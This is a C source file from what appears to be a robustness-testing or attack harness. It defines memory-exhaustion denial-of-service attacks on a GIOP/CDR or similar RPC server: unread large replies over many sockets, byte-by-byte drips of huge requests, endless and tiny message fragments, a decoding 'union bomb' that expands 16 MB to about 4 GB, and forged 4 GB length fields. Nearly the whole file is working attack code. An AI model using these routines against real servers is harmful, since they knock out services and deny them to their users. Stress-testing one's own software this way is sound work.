/* SPDX-License-Identifier: MIT-0 */
/* Attacks that make a server hold memory: unread replies, requests that never end, values that grow when they are decoded. */
#include "attacker.h"
#include <string.h>

/* Two large replies asked for at once, a little of the first read, then a reset: again and again. */
static void reset_replies(struct attacker *attacker)
{
    struct bytes bytes = {NULL, 0, 0};
    request_word(&bytes, 1, LARGE, 4 << 20);
    request_word(&bytes, 2, LARGE, 4 << 20);
    while (goes_on()) {
        char some[1000];
        const int fd = to_server();
        if (fd < 0)
            continue;
        put(fd, bytes.at, bytes.size);
        atomic_fetch_add(&aim.calls, 2);
        for (size_t got = 0; got < sizeof some && goes_on();) {
            const ssize_t now_ = recv(fd, some, sizeof some - got, 0);
            if (now_ <= 0)
                break;
            got += (size_t)now_;
        }
        if (random_below(attacker, 4) == 0)
            pause_for(random_below(attacker, 3));
        reset(fd);
    }
    bytes_free(&bytes);
}

/* So many sockets, each asks for large replies and reads none; who is closed comes again. */
static void unread(uint32_t count, uint32_t size, bool renewed)
{
    struct bytes bytes = {NULL, 0, 0};
    int *const all = (int *)malloc(count * sizeof *all);
    size_t *const at = (size_t *)calloc(count, sizeof *at);
    for (uint32_t index = 0; index < 16; index++)
        request_word(&bytes, index, LARGE, size);
    for (uint32_t index = 0; index < count; index++)
        all[index] = -1;
    for (uint32_t turn = 0; goes_on(); turn++) {
        for (uint32_t index = 0; index < count && goes_on(); index++) {
            if (renewed && turn % 50 == 49 && all[index] >= 0)
                close(all[index]), all[index] = -1;
            if (all[index] < 0) {
                const int small = 2048;
                all[index] = to_server(), at[index] = 0;
                setsockopt(all[index], SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
                continue;
            }
            const ssize_t done = put_some(all[index], bytes.at + at[index], bytes.size - at[index]);
            if (done < 0) {
                close(all[index]);
                all[index] = -1;
                continue;
            }
            if ((at[index] += (size_t)done) == bytes.size)
                at[index] = 0, atomic_fetch_add(&aim.calls, 16);
        }
        pause_for(1);
    }
    for (uint32_t index = 0; index < count; index++)
        close(all[index]);
    free(all), free(at), bytes_free(&bytes);
}

static void unread_replies(struct attacker *attacker)
{
    (void)attacker;
    unread(60, 1 << 20, false);
}

static void unread_renewed(struct attacker *attacker)
{
    (void)attacker;
    unread(60, 300000, true);
}

static void unread_small(struct attacker *attacker)
{
    (void)attacker;
    unread(60, 700, false);
}

/* Requests of the largest size that come but for their last byte; then a byte now and then. */
static void unfinished(uint32_t count, uint32_t size, uint32_t begun)
{
    struct bytes bytes = {NULL, 0, 0};
    int *const all = (int *)malloc(count * sizeof *all);
    size_t *const at = (size_t *)calloc(count, sizeof *at);
    request_blob(&bytes, 1, size);
    for (uint32_t index = 0; index < count; index++)
        all[index] = -1;
    while (goes_on()) {
        bool busy = false;
        for (uint32_t index = 0; index < count && goes_on(); index++) {
            if (all[index] < 0) {
                all[index] = to_server(), at[index] = 0;
                continue;
            }
            const size_t whole = at[index] < begun ? begun - at[index] : at[index] + 2 < bytes.size ? 1 : 0;
            const ssize_t done = put_some(all[index], bytes.at + at[index], whole < 65536 ? whole : 65536);
            if (done < 0) {
                close(all[index]);
                all[index] = -1;
                continue;
            }
            busy = busy || whole > 1;
            at[index] += (size_t)done;
        }
        pause_for(busy ? 0 : 100);
    }
    for (uint32_t index = 0; index < count; index++)
        close(all[index]);
    free(all), free(at), bytes_free(&bytes);
}

static void large_requests_drip(struct attacker *attacker)
{
    (void)attacker;
    unfinished(60, 15 << 20, 14 << 20);
}

static void small_requests_drip(struct attacker *attacker)
{
    (void)attacker;
    unfinished(400, 20000, 19000);
}

/* Fragments that never come to an end. */
static void endless_fragments(struct attacker *attacker)
{
    struct bytes bytes = {NULL, 0, 0}, first = {NULL, 0, 0}, more = {NULL, 0, 0};
    static const uint8_t body[8192];
    request_blob(&first, 1, 4092 + random_below(attacker, 8) * 8);
    if (aim.giop) {
        fragments(&bytes, &first, 512);
        bytes.size = 12 + (size_t)bytes.at[11] + 256 * (size_t)bytes.at[10];    /* the first alone */
        giop_message(&more, 2, 2, 7, 8196, "\0\0\0\1", 4);
        bytes_add(&more, body, 8192);
    } else {
        bytes_word(&bytes, 1000);
        bytes_add(&bytes, first.at + 4, 1000);
        bytes_word(&more, 8192);
        bytes_add(&more, body, 8192);
    }
    while (goes_on()) {
        const int fd = to_server();
        bool alive = fd >= 0 && put(fd, bytes.at, bytes.size);
        while (alive && goes_on())
            alive = put(fd, more.at, more.size);
        close(fd);
    }
    bytes_free(&bytes), bytes_free(&first), bytes_free(&more);
}

/* Some megabytes in fragments of a few bytes each: joining them takes time that grows with their number alone. */
static void tiny_fragments(struct attacker *attacker)
{
    struct bytes bytes = {NULL, 0, 0}, whole = {NULL, 0, 0};
    static const uint32_t sizes[] = {100, 1, 7, 36, 100, 9000};
    request_blob(&whole, 1, 4900000);
    fragments(&bytes, &whole, sizes[random_below(attacker, 6)]);
    ask_again_and_again(&bytes);
    bytes_free(&bytes), bytes_free(&whole);
}

/* A sequence of unions that are four bytes in the message and a thousand in memory. */
static void union_bomb(struct attacker *attacker)
{
    struct bytes bytes = {NULL, 0, 0};
    const uint32_t count = 3900000;
    const size_t begin = request_begin(&bytes, 1, PARTS);
    (void)attacker;
    bytes_word(&bytes, count);
    bytes_zeros(&bytes, 4 * (size_t)count);
    request_end(&bytes, begin);
    ask_again_and_again(&bytes);
    bytes_free(&bytes);
}

/* Empty strings: each is four bytes in the message (eight in CDR), and a block of the C library's where values are freed one by one. */
static void empty_strings(struct attacker *attacker)
{
    struct bytes bytes = {NULL, 0, 0};
    const uint32_t count = attacker->index == 0 ? 10000000 : 3900000;
    const size_t begin = request_begin(&bytes, 1, TITLES);
    bytes_word(&bytes, count);
    if (!aim.giop)
        bytes_zeros(&bytes, 4 * (size_t)count);
    for (uint32_t done = 0; aim.giop && done < count / 2; done++) {
        bytes_word(&bytes, 1);
        bytes_zeros(&bytes, 4);
    }
    request_end(&bytes, begin);
    ask_again_and_again(&bytes);
    bytes_free(&bytes);
}

/* Lengths that no message has. */
static void huge_lengths(struct attacker *attacker)
{
    static const uint32_t claims[] = {0xffffffff, 0x80000000, 0x7fffffff, 0x7ffffff0, 0x40000000, 0x10000000, 0xfffffff4, 16 << 20};
    while (goes_on()) {
        struct bytes bytes = {NULL, 0, 0};
        const uint32_t claim = claims[random_below(attacker, 8)];
        request_word(&bytes, 1, NOTHING, 0);
        const size_t at = aim.giop ? 8 : 0;
        const size_t count = bytes.size;
        if (random_below(attacker, 2) == 0) {
            bytes.size = at;
            bytes_word(&bytes, claim);
            bytes.size = count;
        } else {
            bytes.size = 0;
            const size_t begin = request_begin(&bytes, 1, ECHO);
            bytes_word(&bytes, claim);
            request_end(&bytes, begin);
        }
        ask(&bytes, 5);
        bytes_free(&bytes);
    }
}

const struct attack attacks_of_memory[] = {
    {"reset-replies", reset_replies, 4, "all", "", "two large replies asked for at once, 1000 bytes read, reset"},
    {"unread-replies", unread_replies, 1, "all", "", "large replies over 60 connections, none read"},
    {"unread-renewed", unread_renewed, 1, "all", "", "the same with connections that are closed and opened anew"},
    {"unread-small", unread_small, 1, "all", "", "many small replies over 60 connections, none read"},
    {"large-requests-drip", large_requests_drip, 1, "all", "", "60 requests of 15 MB, the last megabyte byte by byte"},
    {"small-requests-drip", small_requests_drip, 1, "all", "", "400 requests of 20 KB, the last kilobyte byte by byte"},
    {"endless-fragments", endless_fragments, 4, "all", "", "fragments without a last one"},
    {"tiny-fragments", tiny_fragments, 2, "all", "", "4.9 MB in fragments of 1 to 9000 bytes"},
    {"union-bomb", union_bomb, 2, "all", "", "16 MB of unions that take 4 GB when they are decoded"},
    {"empty-strings", empty_strings, 2, "all", "", "16 and 40 MB of empty strings"},
    {"huge-lengths", huge_lengths, 4, "all", "", "messages and sequences that claim up to 4 GB"},
    {NULL, NULL, 0, NULL, NULL, NULL},
};
